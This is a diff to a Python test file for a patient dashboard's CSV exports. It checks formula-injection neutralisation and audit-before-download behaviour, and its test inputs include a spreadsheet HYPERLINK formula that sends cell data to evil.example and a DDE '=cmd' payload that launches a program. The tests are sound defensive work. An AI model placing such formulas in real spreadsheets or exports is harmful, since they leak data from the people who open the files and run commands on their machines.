@@ -11,6 +11,7 @@ from urllib.parse import urlparse
 
 import pandas as pd
 import pytest
+from sqlalchemy.exc import SQLAlchemyError
 
 from dashboard import audit, exports
 from dashboard.engine import make_engine
@@ -18,7 +19,7 @@ from dashboard.ui.nav import PAGES_DIR
 from tests.apptest import logged_in, table_state_key
 
 ROOT = Path(__file__).resolve().parent.parent
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
 
 # ---------------------------------------------------------------- formula injection
@@ -41,8 +42,15 @@ def test_plain_rows_go_through_the_same_rule():
 def test_the_queue_digest_csv_is_neutralised():
     from dashboard.cli.queue import render
 
-    record = {"patient_code": "=cmd|' /C calc'!A0", "flags": ["risk"], "reasons": ["@risk"], "waiting_days": 2,
-              "therapist": "-Dr Evil", "latest_score": 14, "escalated": True}
+    record = {
+        "patient_code": "=cmd|' /C calc'!A0",
+        "flags": ["risk"],
+        "reasons": ["@risk"],
+        "waiting_days": 2,
+        "therapist": "-Dr Evil",
+        "latest_score": 14,
+        "escalated": True,
+    }
     rows = list(csv.reader(io.StringIO(render([record], "csv", ""))))
     assert rows[1][0] == "'=cmd|' /C calc'!A0" and rows[1][2] == "'@risk" and rows[1][4] == "'-Dr Evil"
 
@@ -61,7 +69,9 @@ def test_the_export_callable_audits_only_when_called(db_url):
     engine = make_engine(db_url)
     db.upgrade(engine)
     built = []
-    on_click = exports.audited_csv(engine, "ther.a", "test_csv", lambda: built.append(1) or pd.DataFrame({"x": ["=1", "b"]}))
+    on_click = exports.audited_csv(
+        engine, "ther.a", "test_csv", lambda: built.append(1) or pd.DataFrame({"x": ["=1", "b"]})
+    )
     assert exports_of(engine, "ther.a") == [] and built == []  # made, not called: nothing built, nothing audited
     body = on_click()
     assert body.decode() == "x\r\n'=1\r\nb\r\n"
@@ -73,7 +83,7 @@ def test_the_export_callable_audits_only_when_called(db_url):
 
 def test_no_file_is_served_when_the_audit_cannot_be_written(tmp_path):
     engine = make_engine(f"sqlite:///{tmp_path}/no-state.sqlite")  # no dash_ tables: the audit write fails
-    with pytest.raises(Exception):
+    with pytest.raises(SQLAlchemyError):  # the missing table: nothing is built or served
         exports.audited_csv(engine, "ther.a", "test_csv", lambda: pd.DataFrame({"x": [1]}))()
 
 
@@ -100,7 +110,9 @@ def test_rendering_the_export_pages_uploads_and_audits_nothing(app_platform):
     assert_all_deferred(lead, 1)
     gp = logged_in("gp.a")
     codes = list(gp.dataframe[0].value["code"])
-    gp.session_state[table_state_key(gp, "due_table_")] = {"selection": {"rows": [codes.index("EXP-1")], "columns": [], "cells": []}}
+    gp.session_state[table_state_key(gp, "due_table_")] = {
+        "selection": {"rows": [codes.index("EXP-1")], "columns": [], "cells": []}
+    }
     gp.run()
     next(b for b in gp.button if b.label == "Save follow-up").click()
     gp.run()
@@ -141,12 +153,23 @@ def test_a_rendered_page_holds_no_file_and_a_click_downloads_and_audits_once(ser
     context = browser.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
     page = context.new_page()
     received: list[bytes] = []
-    page.on("websocket", lambda ws: ws.on(
-        "framereceived", lambda payload: received.append(payload if isinstance(payload, bytes) else payload.encode())))
+    page.on(
+        "websocket",
+        lambda ws: ws.on(
+            "framereceived",
+            lambda payload: received.append(payload if isinstance(payload, bytes) else payload.encode()),
+        ),
+    )
     fetched: list[str] = []
     # The page icon (dashboard/static/icon.png) is served as /media/<id>.png: not patient data.
-    page.on("request", lambda request: fetched.append(request.url) if urlparse(request.url).path.startswith("/media/")
-            and not urlparse(request.url).path.endswith(".png") else None)
+    page.on(
+        "request",
+        lambda request: (
+            fetched.append(request.url)
+            if urlparse(request.url).path.startswith("/media/") and not urlparse(request.url).path.endswith(".png")
+            else None
+        ),
+    )
     page.goto(app_url)
     wait_for_app(page)
     log_in(page, "lead1", "caseboard-demo")
@@ -154,7 +177,9 @@ def test_a_rendered_page_holds_no_file_and_a_click_downloads_and_audits_once(ser
     page.get_by_role("heading", name="Are GPs holding follow-ups?").wait_for(timeout=30_000)
     page.get_by_role("button", name="Workload CSV").wait_for(timeout=30_000)
     wait_for_app(page)
-    assert received and not any(re.search(rb"(?<!static)/media/[0-9a-f]+\.(?!png)", frame) for frame in received)  # no file
+    assert received and not any(
+        re.search(rb"(?<!static)/media/[0-9a-f]+\.(?!png)", frame) for frame in received
+    )  # no file
     assert fetched == [] and exports_of(engine, "lead1") == []
     with page.expect_download() as download:
         page.get_by_role("button", name="Workload CSV").click()
